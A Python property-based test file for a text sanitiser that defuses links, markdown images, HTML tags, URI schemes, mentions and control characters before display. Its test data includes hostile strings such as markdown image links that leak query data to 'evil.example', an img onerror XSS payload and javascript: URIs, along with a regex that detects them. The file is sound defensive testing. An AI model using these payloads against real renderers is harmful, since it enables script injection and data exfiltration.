from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.shown import ShownText, plain, shown, unlinked

HOSTILE = st.lists(
    st.sampled_from(
        [
            *"[]()<>!:/.ahtps \n1",
            "http",
            "https://evil.example/?q=",
            "://",
            "//",
            "![",
            "](",
            "]:",
            "[1]",
            " [9]",
            "【2】",
            "<img src=",
            "</passage>",
            "javascript:",
            "\u202e",
            "\x00",
            "\ud800",
            "www.",
            "a" * 20,
            "evil.example",
            "203.0.113.7/",
            "javascript:",
            "data:text",
            "mailto:",
            "@here",
            "@",
            "\\",
            "\\\\evil",
            "\\href",
            "```",
            "~~~",
            "mermaid",
            "[9",
            "9]",
            "【9",
            "<!channel>",
            "<@U1>",
            "．",
            "\ufe01",
        ]
    )
    | st.text(max_size=3),
    max_size=30,
).map("".join)
#: What makes a program fetch, link, run or call somebody: an address, a host name, a Markdown link, picture or
#: definition, a tag, a mention, a scheme, a language after a fence, and a marker of a passage that is not there.
DANGEROUS = re.compile(
    r"[A-Za-z]:/*//|:[/\\]{2}|(?<![\w:/\\])[/\\]{2}\w|\]\(|\]:|!\[|<[^\s\d=]|[\x00\x1b\u202e\ud800\ufe01]|"
    r"[\w-][.．｡][^\W\d_]{2}|(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}/\w|(?<!\w)@\w|\b(?:javascript|data|mailto):\S|"
    r"\\href|```|~~~|[\[【]\s?(?:[3-9]|\d\d+)\s?[\]】]"
)


@given(HOSTILE, st.lists(st.integers(0, 60), max_size=10))
@example("<!-- x", [2])
@example("![x](y)", [1, 4])
@example("aaahttps://x", [3, 8, 9, 10])
def test_what_is_shown_never_depends_on_how_the_text_was_split(text, cuts):
    """concat(f(stream)) == f(concat(stream))."""
    stream = ShownText(2)
    borders = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    pieces = [text[a:b] for a, b in pairwise(borders)]

    assert "".join(stream.feed(piece) for piece in pieces) + stream.finish() == shown(text, 2)


@given(HOSTILE)
def test_nothing_dangerous_is_ever_shown_not_even_for_a_moment(text):
    stream = ShownText(2)
    so_far = ""
    for character in text:
        so_far += stream.feed(character)
        assert not DANGEROUS.search(so_far)
    so_far += stream.finish()

    assert not DANGEROUS.search(so_far)
    assert so_far == shown(text, 2)


@given(HOSTILE)
def test_showing_twice_changes_nothing(text):
    assert shown(shown(text, 2), 2) == shown(text, 2)


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("Use https://portal.example/leave [1].", "Use portal․example/leave [1]."),
        ("![x](https://evil.example/?q=secret)", "! [x] (evil․example/?q=secret)"),
        ("[click][ref]\n\n[ref]: http://evil.example", "[click][ref]\n\n[ref] : evil․example"),
        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
        ("2 < 3 and 5 > 4; 8:30; and/or", "2 < 3 and 5 > 4; 8:30; and/or"),
        ("Wow! Yes [1][2], no [3].", "Wow! Yes [1][2], no."),
        ("aaaaaaaaaaaaaaaaaaaahttps://x", "aaaaaaaaax"),
        ("http:///:///x", "x"),
        ("https:\\\\evil.example and //evil.example/x", "evil․example and evil․example/x"),
        ("\\\\srv01\\commun\\congés.pdf", "srv01\\commun\\congés․pdf"),
        ("See leave.md, at 8.30 or 2.5 km, i.e. no. 5. And J.-P. too.",
         "See leave․md, at 8.30 or 2.5 km, i.e. no. 5. And J.-P. too."),
        ("Write to hr@acme.example or mailto:hr@acme.example.", "Write to hr@acme․example or mailto：hr@acme․example."),
        ("javascript:alert(1) data:text/html;base64,PHN2Zz4=", "javascript：alert(1) data：text/html;base64,PHN2Zz4="),
        ("Personal data: keep 5 years. Metadata:x", "Personal data: keep 5 years. Metadata:x"),
        ("<!channel> <@U123> <http://evil.example|leave> @here", "‹!channel> ‹＠U123> ‹evil․example|leave> ＠here"),
        ("```mermaid\nclick A\n```", "``｀mermaid\nclick A\n``｀"),
        ("\\href{//evil.example}{x}", "＼href{evil․example}{x}"),
        ("Call 203.0.113.7/x?d=1, version 1.2.3.4.", "Call 203․0․113․7/x?d=1, version 1.2.3.4."),
        ("[9[9]9] [1[7]]", "(99) [1]"),
        ("pay\u200broll \U000e0041 a\ufe01b\u3164", "payroll  ab"),
    ],
)  # fmt: skip
def test_text_stays_readable_and_loses_what_a_program_would_act_on(written, seen):
    assert shown(written, 2) == seen


@pytest.mark.parametrize(
    ("title", "as_markdown", "on_a_terminal"),
    [
        ("![x](https://evil.example/?q=1)", "x evil․example/?q=1", "![x](evil.example/?q=1)"),
        ("www.evil.example\n# Leave", "www․evil․example Leave", "www.evil.example # Leave"),
        ("<b>@channel</b> javascript:x", "b ＠channel /b javascript：x", "<b>@channel</b> javascript:x"),
        ("hr/leave-policy.md", "hr/leave-policy․md", "hr/leave-policy.md"),
        ("\x1b]8;;https://evil.example\x07Leave", "8;;evil․exampleLeave", "]8;;evil.exampleLeave"),
    ],
)
def test_titles_of_documents_are_as_harmless_where_we_render_them(title, as_markdown, on_a_terminal):
    assert plain(title) == as_markdown
    assert unlinked(title) == on_a_terminal


@given(HOSTILE)
def test_no_title_is_dangerous_in_markdown(title):
    assert not DANGEROUS.search(plain(title))
    assert "\n" not in plain(title)
